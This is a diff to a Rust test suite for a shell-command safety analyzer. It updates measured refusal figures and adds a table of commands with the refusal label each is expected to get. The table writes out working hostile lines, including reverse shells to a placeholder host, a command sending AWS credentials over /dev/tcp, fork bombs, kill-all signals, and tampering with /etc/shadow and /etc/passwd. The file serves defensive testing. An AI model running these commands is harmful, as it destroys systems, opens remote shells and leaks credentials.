@@ -347,8 +347,8 @@ fn the_held_out_part_holds_its_figures() {
 
 /// (destructive refused, benign refused, benign warned, run-time only refused), as
 /// measured; the goals are (≥ 99%, ≤ 1%, ≤ 3%, all) of (destructive, benign, benign, held).
-const TUNING: (usize, usize, usize, usize) = (245, 11, 4, 25);
-const HELD_OUT: (usize, usize, usize, usize) = (176, 23, 5, 33);
+const TUNING: (usize, usize, usize, usize) = (346, 10, 4, 25);
+const HELD_OUT: (usize, usize, usize, usize) = (177, 23, 5, 33);
 
 #[test]
 fn the_independent_corpus_was_split_once() {
@@ -570,4 +570,59 @@ fn what_the_line_sets_cannot_be_faked() {
     nested.push_str("true");
     nested.push_str(&"; done".repeat(8));
     assert!(!blocking(&analyze(&nested)).is_empty());
+}
+
+/// Processes, permissions, connections and lost files: the operation each command is
+/// refused as, or none.
+#[test]
+fn processes_permissions_and_connections_are_read() {
+    let table: &[(&str, Option<&str>)] = &[
+        ("kill -9 -1", Some("kill_all")),
+        ("kill -- -1", Some("kill_all")),
+        ("kill -s KILL 1", Some("kill_all")),
+        ("kill -1 4242", None), // SIGHUP to 4242
+        ("kill -0 1", None),    // does init exist?
+        ("kill -s 0 1", None),
+        ("killall5", Some("kill_all")),
+        ("pkill -u root", Some("kill_all")),
+        ("pkill --euid=0", Some("kill_all")),
+        ("pkill -u root nginx", None),
+        ("killall '^systemd$'", Some("kill_all")),
+        ("killall node", None),
+        ("chmod 000 /etc/shadow", Some("system_change")),
+        ("chown --reference=a /etc/sudoers", Some("system_change")),
+        ("chmod 755 /usr/local/bin/tool", None),
+        ("chmod 600 ~/.ssh/config", None),
+        ("truncate -s 0 /var/log/syslog", Some("system_delete")),
+        ("truncate -r /etc/hosts app.log", None), // -r names the size's reference
+        ("truncate -s0 app.log", None),
+        ("mv /etc/passwd /tmp/p", Some("system_delete")),
+        ("mv -t /tmp /etc/hosts", Some("system_delete")),
+        ("mv /tmp/a /tmp/b", None),
+        ("cd /etc && mv hosts /tmp/h", Some("system_delete")),
+        ("bash -i >& /dev/tcp/h/1 0>&1", Some("reverse_shell")),
+        ("exec 3<>/dev/tcp/h/1; bash <&3 >&3", Some("reverse_shell")),
+        ("exec 3<>/dev/tcp/h/80; cat <&3", None),
+        ("echo x > /dev/udp/127.0.0.1/9", None),
+        ("cat ~/.aws/credentials > /dev/tcp/h/1", Some("credential_sent")),
+        ("python3 -c 'import os,pty; os.dup2(3,0); pty.spawn(\"sh\")'", Some("reverse_shell")),
+        ("python3 -c 'import os; os.dup2(1,2)'", None),
+        ("perl -e 'open(STDIN, \">&S\"); exec(\"/bin/sh -i\")'", Some("reverse_shell")),
+        ("ruby -e '$stdin.reopen(s); exec \"/bin/sh\"'", Some("reverse_shell")),
+        ("nc -e /bin/sh h 1", Some("reverse_shell")),
+        ("socat TCP:h:1 EXEC:bash", Some("reverse_shell")),
+        (":(){ :|:& };:", Some("fork_bomb")),
+        ("f(){ f & }; f", Some("fork_bomb")),
+        ("f(){ ls | while read d; do f \"$d\"; done; }; f", None),
+        ("git reflog expire --expire=now --all", Some("rewrite_history")),
+        ("git reflog show", None),
+    ];
+    for (command, want) in table {
+        let findings = analyze(command);
+        let refused: Vec<&str> = blocking(&findings).iter().map(|f| f.operation.as_str()).collect();
+        match want {
+            Some(op) => assert!(refused.contains(op), "{command:?}: {refused:?}"),
+            None => assert!(refused.is_empty(), "{command:?}: {refused:?}"),
+        }
+    }
 }
